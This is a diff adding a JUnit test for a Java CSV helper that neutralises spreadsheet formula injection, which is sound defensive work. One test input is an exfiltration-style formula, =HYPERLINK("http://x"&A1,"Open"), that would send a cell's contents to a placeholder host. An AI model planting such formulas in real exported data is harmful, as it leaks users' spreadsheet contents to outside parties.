@@ -40,4 +40,18 @@ class CsvCellsTest {
         assertEquals("'-15", CsvCells.cell("-15"));
         assertEquals("x,-3,'=A1,", CsvCells.row("x", -3, "=A1", null));
     }
+
+    @Test
+    void forAPrinterThatQuotesItselfTextIsNeutralisedButNotQuoted() {
+        for (String risky : new String[]{"=HYPERLINK(\"http://x\"&A1,\"Open\")", "+1", "-5", "@SUM(A1)", "\tx", "\rx"}) {
+            assertEquals("'" + risky, CsvCells.forPrinter(risky));
+        }
+        assertEquals("a, b", CsvCells.forPrinter("a, b"));
+        assertEquals("a=b", CsvCells.forPrinter("a=b"));
+        assertEquals("", CsvCells.forPrinter((Object) null));
+        assertEquals(-5, CsvCells.forPrinter(-5));
+        assertEquals(true, CsvCells.forPrinter(true));
+        assertEquals(java.util.List.of("'=1", 2, ""),
+                java.util.List.of(CsvCells.forPrinter("=1", 2, null)));
+    }
 }
